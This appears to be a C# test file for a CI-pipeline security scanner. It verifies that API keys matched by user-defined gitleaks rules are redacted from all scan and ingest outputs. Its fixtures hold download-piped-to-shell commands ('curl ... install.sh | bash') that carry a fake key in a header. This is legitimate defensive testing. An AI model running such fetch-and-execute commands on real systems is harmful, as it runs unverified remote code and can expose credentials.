using PipeWatch.Tests.Support;
using Xunit;

namespace PipeWatch.Tests.Cli.Hostile;

/// <summary>
/// Findings were redacted by the built-in secret rules only: a secret of the user's own format (a gitleaks rule given with
/// <c>scan --rules</c>) quoted by another detector (the download-and-execute step of a workflow) reached the output whole.
/// </summary>
public sealed class UserRuleRedactionTests : IDisposable
{
    private const string Secret = "corp_live_" + "4f9a8b7c6d5e4f3a2b1c";

    private readonly TempFolder _temp = new();

    public void Dispose() => _temp.Dispose();

    [Fact]
    public async Task A_secret_of_the_config_s_secret_rules_quoted_by_a_sigma_rule_is_redacted_by_ingest()
    {
        WriteRules();
        Directory.CreateDirectory(_temp.File("conf"));
        File.WriteAllText(_temp.File("conf/pipewatch.yml"), "secrets:\n  rules: ../gitleaks.toml\n");
        // Runner telemetry (as the built-in pack's examples): the download-piped-to-shell Sigma rule quotes the command line, which holds the key.
        File.WriteAllText(_temp.File("telemetry.jsonl"), $$$"""
            {"@timestamp": "2026-11-20T10:17:00Z", "event": {"category": ["process"], "type": ["start"], "id": "p-1"}, "process": {"executable": "/usr/bin/bash", "command_line": "/bin/sh -c curl -sSfL -H 'X-Corp-Key: {{{Secret}}}' https://example.net/install.sh | bash", "pid": 4017, "parent": {"executable": "/home/runner/actions-runner/bin/Runner.Worker"}}, "host": {"os": {"type": "linux"}, "name": "runner-7"}, "user": {"name": "runner"}, "ci": {"repository": "acme/api", "pipeline": "CI", "run_id": "71", "job": "build", "platform": "github"}}

            """);

        var plain = await new CliRunner(_temp.Path).RunAsync("ingest", "telemetry.jsonl", "--format", "json", "--store", _temp.File("plain.db"));
        var result = await new CliRunner(_temp.Path).RunAsync(
            "ingest", "telemetry.jsonl", "--config", "conf/pipewatch.yml", "--format", "json", "--report", "sarif=out.sarif", "--store", _temp.File("store.db"));

        // Without the config's rules the key is quoted whole (the built-in rules do not know its format); with them, no piece of it is anywhere.
        Assert.Contains(Secret, plain.Output, StringComparison.Ordinal);
        Assert.Equal(1, result.ExitCode);
        Assert.Contains("curl", result.Output, StringComparison.Ordinal);
        AssertNoPiece([result.Output, result.Error, File.ReadAllText(_temp.File("out.sarif")), .. StoreFiles("store.db")]);
    }

    [Fact]
    public async Task A_missing_secret_rules_file_named_by_the_config_is_a_usage_error()
    {
        File.WriteAllText(_temp.File("pipewatch.yml"), "secrets:\n  rules: missing.toml\n");
        File.WriteAllText(_temp.File("telemetry.jsonl"), "{}\n");

        var result = await new CliRunner(_temp.Path).RunAsync("ingest", "telemetry.jsonl", "--store", _temp.File("store.db"));

        Assert.Equal(2, result.ExitCode);
        Assert.Contains($"pipewatch: {_temp.File("missing.toml")}: no such rule file", result.Error, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_secret_of_a_user_gitleaks_rule_quoted_by_another_detector_is_redacted_in_every_output()
    {
        WriteRules();
        Directory.CreateDirectory(_temp.File("repo/.github/workflows"));
        File.WriteAllText(_temp.File("repo/.github/workflows/ci.yml"), $$"""
            name: ci
            on: push
            jobs:
              build:
                runs-on: ubuntu-latest
                steps:
                  - run: |
                      curl -sSL -H "X-Corp-Key: {{Secret}}" https://get.example.net/install.sh | bash
            """);

        var result = await new CliRunner(_temp.Path).RunAsync(
            "scan", "repo", "--no-git", "--rules", "gitleaks.toml", "--format", "json", "--report", "sarif=out.sarif", "--store", _temp.File("store.db"));

        Assert.Equal(1, result.ExitCode);
        Assert.Contains("code-change.pipeline-tampering", result.Output, StringComparison.Ordinal);
        Assert.Contains("corp-live-key", result.Output, StringComparison.Ordinal);
        AssertNoPiece([result.Output, result.Error, File.ReadAllText(_temp.File("out.sarif")), .. StoreFiles("store.db")]);
    }

    private static void AssertNoPiece(IEnumerable<string> outputs)
    {
        foreach (var text in outputs)
        {
            for (var at = 0; at + 10 <= Secret.Length; at++)
            {
                var piece = Secret.Substring(at, 10);
                if (piece.StartsWith("corp_live", StringComparison.Ordinal)) continue;
                Assert.DoesNotContain(piece, text, StringComparison.Ordinal);
            }
        }
    }

    private IEnumerable<string> StoreFiles(string name) =>
        Directory.GetFiles(_temp.Path, name + "*").Select(f => System.Text.Encoding.Latin1.GetString(File.ReadAllBytes(f)));

    private void WriteRules() => File.WriteAllText(_temp.File("gitleaks.toml"), """
        [extend]
        useDefault = true

        [[rules]]
        id = "corp-live-key"
        description = "Corp live API key"
        regex = '''corp_live_[0-9a-f]{20}'''
        keywords = ["corp_live_"]
        """);
}
